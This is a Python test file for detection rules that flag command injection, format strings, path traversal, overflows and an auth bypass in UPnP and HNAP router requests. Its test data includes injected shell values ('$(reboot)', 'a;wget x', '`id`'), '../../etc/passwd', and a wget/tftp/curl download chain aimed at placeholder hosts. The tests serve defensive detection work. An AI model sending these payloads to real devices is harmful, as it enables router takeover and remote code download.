"""Values that are no values, in any action: what counts as one, and free text that does not."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.forensics.judging import facts_of, http
from tests.forensics.rules.traffic import WANIP, hnap, of_rule, serious, soap
from upnpscapy.forensics.rules import RULES, soap_injection
from upnpscapy.forensics.rules import hnap as of_hnap
from upnpscapy.forensics.rules.rule import Rule
from upnpscapy.forensics.rules.text import COMMAND, COMMAND_WORD, FORMAT, hosts_in, is_host

INJECTION = soap_injection.injection
CONTENT = "urn:schemas-upnp-org:service:ContentDirectory:1"
AVT = "urn:schemas-upnp-org:service:AVTransport:1"
LAN = "urn:schemas-upnp-org:service:LANHostConfigManagement:1"
DIDL = "<DIDL-Lite><item><dc:title>A &amp; B; rm | sh {}</dc:title></item></DIDL-Lite>"
LONG = "A" * 1025

CASES: list[tuple[str, str, str, str, str | None]] = [
    # service, action, argument, value, severity
    (WANIP, "AddPortMapping", "NewRemoteHost", "$(reboot)", "HIGH"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "$(wget x)", "CRITICAL"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "a;wget x", "CRITICAL"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "a${IFS}b", "HIGH"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "a|b", "HIGH"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "not a host", "HIGH"),
    (WANIP, "AddPortMapping", "NewRemoteHost", "192.0.2.1", None),
    (WANIP, "AddPortMapping", "NewRemoteHost", "host.example", None),
    (WANIP, "AddPortMapping", "NewRemoteHost", "", None),
    (WANIP, "AddPortMapping", "NewRemoteHost", "*", None),
    (WANIP, "AddPortMapping", "NewRemoteHost", "2001:db8::1", None),
    (WANIP, "AddPortMapping", "NewExternalPort", "80a", "HIGH"),
    (WANIP, "AddPortMapping", "NewExternalPort", "65536", "LOW"),
    (WANIP, "AddPortMapping", "NewExternalPort", "65535", None),
    (WANIP, "AddPortMapping", "NewProtocol", "BOTH", "LOW"),
    (WANIP, "AddPortMapping", "NewProtocol", "TCP\n0", "HIGH"),
    (WANIP, "AddPortMapping", "NewProtocol", "udp", None),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", "R&D; a | b", None),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", "x; wget y", "CRITICAL"),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", "wget y", None),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", "%n%n", "HIGH"),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", "100%natural 20%", None),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", LONG, "HIGH"),
    (WANIP, "AddPortMapping", "NewPortMappingDescription", LONG[1:], None),
    (WANIP, "SetConnectionType", "NewConnectionType", "%x%x%x", "HIGH"),
    (LAN, "SetDNSServer", "NewDNSServers", "192.0.2.1,192.0.2.2", None),
    (LAN, "SetDNSServer", "NewDNSServers", "192.0.2.1 or so", "HIGH"),
    (CONTENT, "Browse", "ObjectID", "../../etc/passwd", "HIGH"),
    (CONTENT, "Browse", "ObjectID", "0$1$2", None),
    (CONTENT, "Browse", "ObjectID", LONG, None),
    (CONTENT, "Search", "SearchCriteria", 'dc:title contains "a|b"', None),
    (AVT, "SetAVTransportURI", "CurrentURI", "http://192.168.1.2/a?b=1&c=2;d", None),
    (AVT, "SetAVTransportURI", "CurrentURI", "http://192.168.1.2/$(reboot)", "HIGH"),
    (AVT, "SetAVTransportURI", "CurrentURIMetaData", DIDL.format(""), None),
    (AVT, "SetAVTransportURI", "CurrentURIMetaData", DIDL.format("`"), "CRITICAL"),
    (AVT, "SetAVTransportURI", "CurrentURIMetaData", "<i>Rock `n roll</i>", "LOW"),
]


@pytest.mark.parametrize(("service", "action", "name", "value", "severity"), CASES)
def test_value_of_an_argument_is_judged_by_what_the_argument_may_hold(
    service: str, action: str, name: str, value: str, severity: str | None
) -> None:
    request = soap(action, [(name, value)], service=service)
    found = of_rule(http(request, None), soap_injection.injection)
    assert [one.severity for one in found] == ([severity] if severity else [])
    for one in found:
        assert one.numbers[0] == 4
        assert one.evidence[0].value is not None
        assert one.evidence[0].value[:256] == value[:256]


@pytest.mark.parametrize(("port", "rule"), [(5431, "broadcom"), (5000, "injection")])
def test_format_string_belongs_to_broadcom_at_its_port_only(port: int, rule: str) -> None:
    request = soap("GetStatusInfo", [("NewConnectionType", "%08x%08x%n")])
    (expected,) = [getattr(soap_injection, rule).id]
    assert serious(http(request, None, port=port)) == [expected]


HNAP_CASES: list[tuple[str, Rule, bytes, str | None]] = [
    ("password", of_hnap.injection, hnap("AddUser", [("Password", "$(reboot)")]), "CRITICAL"),
    ("nested", of_hnap.injection, hnap("AddUser", [("List", "<a>`id`</a>")]), "CRITICAL"),
    ("plain", of_hnap.injection, hnap("AddUser", [("Password", "a;b|c&d")]), None),
    ("long", of_hnap.overflow, hnap("Login", [("Captcha", "A" * 513)]), "HIGH"),
    ("login", of_hnap.overflow, hnap("Login", [("Captcha", "A" * 512)]), None),
    ("other", of_hnap.overflow, hnap("SetX", [("Y", "A" * 1025)]), "HIGH"),
    ("other-512", of_hnap.overflow, hnap("SetX", [("Y", "A" * 1024)]), None),
    (
        *("bypass", of_hnap.bypass),
        *(hnap("Reboot", named='"http://purenetworks.com/HNAP1/GetDeviceSettings"'), "MEDIUM"),
    ),
    ("settings", of_hnap.bypass, hnap("GetDeviceSettings"), None),
    ("reboot", of_hnap.bypass, hnap("Reboot"), None),
]


@pytest.mark.parametrize(
    ("rule", "request_", "severity"),
    [case[1:] for case in HNAP_CASES],
    ids=[case[0] for case in HNAP_CASES],
)
def test_values_of_hnap_are_judged_by_its_own_rules(
    rule: Rule, request_: bytes, severity: str | None
) -> None:
    pieces = http(request_, None, port=80)
    assert [one.severity for one in of_rule(pieces, rule)] == ([severity] if severity else [])
    assert of_rule(pieces, soap_injection.injection) == []


@pytest.mark.parametrize(("client", "count"), [("198.51.100.9", 1), ("192.168.1.10", 0)])
def test_model_asked_for_by_hnap_counts_from_outside_only(client: str, count: int) -> None:
    request = b"GET /HNAP1/ HTTP/1.1\r\nHost: 192.168.1.1\r\n\r\n"
    assert len(of_rule(http(request, None, client=client, port=80), of_hnap.probe)) == count


HOSTILE = [
    "A" * 10_000,
    "\0" * 10_000,
    "`" * 10_000,
    "%x" * 5_000,
    "<" * 10_000,
    "; " * 5_000,
    "../" * 3_333,
    "http://" * 1_500,
    "1.1.1." * 1_600,
]


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value[:4]))
def test_hostile_values_are_bounded_in_findings(value: str) -> None:
    pieces = http(soap("AddPortMapping", [("NewInternalClient", value), ("Other", value)]), None)
    facts = facts_of(pieces)
    start = process_time()
    for rule in RULES:
        for claim in rule.judge(facts):
            assert len(claim.note) < 1500
            assert all(len(one.value or "") < 400 for one in claim.evidence)
    assert process_time() - start < 1


@pytest.mark.parametrize("part", ["; ", "%1", "%0", "`", "http://", "1.", "a.", ";/", "$(", "%hhn"])
def test_patterns_take_a_megabyte_in_linear_time(part: str) -> None:
    text = part * (1_000_000 // len(part))
    start = process_time()
    for pattern in (COMMAND, COMMAND_WORD, FORMAT):
        pattern.search(text)
    hosts_in(text)
    is_host(text)
    assert process_time() - start < 1.5


@given(st.text(max_size=200))
@settings(deadline=None, max_examples=100)
def test_any_text_can_be_looked_at(text: str) -> None:
    assert len(hosts_in(text)) <= 8
    assert isinstance(is_host(text), bool)


def test_hosts_of_a_command_are_those_it_names() -> None:
    text = "cd /tmp; wget http://198.51.100.7:81/a; tftp -g 203.0.113.9; curl ftp://x.example/b"
    assert hosts_in(text) == ["198.51.100.7", "x.example", "203.0.113.9"]
    assert hosts_in("version 1.2.3 and 1.2.3.4.5 and 300.1.1.1") == []


def test_separator_that_vendors_use_is_low_with_them() -> None:
    request = soap("SetX", [("Params", "1|2|3")], service="urn:Belkin:service:insight:1")
    assert [one.severity for one in of_rule(http(request, None), INJECTION)] == ["LOW"]


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (soap("SetPassword", [("NewPassword", "hunter2`")]), INJECTION),
        (hnap("AddUser", [("Password", "hunter2`")]), of_hnap.injection),
        (hnap("AddUser", [("List", "<Password>hunter2`</Password>")]), of_hnap.injection),
        (hnap("Login", [("LoginPassword", "hunter2" * 100)]), of_hnap.overflow),
    ],
)
def test_password_with_a_metacharacter_is_not_shown(request_: bytes, rule: Rule) -> None:
    (found,) = of_rule(http(request_, None), rule)
    assert "hunter2" not in f"{found.note} {[one.value for one in found.evidence]}"


def test_free_text_with_a_command_is_less_certain() -> None:
    values = [("NewPortMappingDescription", "x & echo y"), ("NewRemoteHost", "x & echo y")]
    for (name, value), confidence in zip(values, ("medium", "high"), strict=True):
        (found,) = of_rule(http(soap("AddPortMapping", [(name, value)]), None), INJECTION)
        assert (found.severity, found.confidence) == ("CRITICAL", confidence)
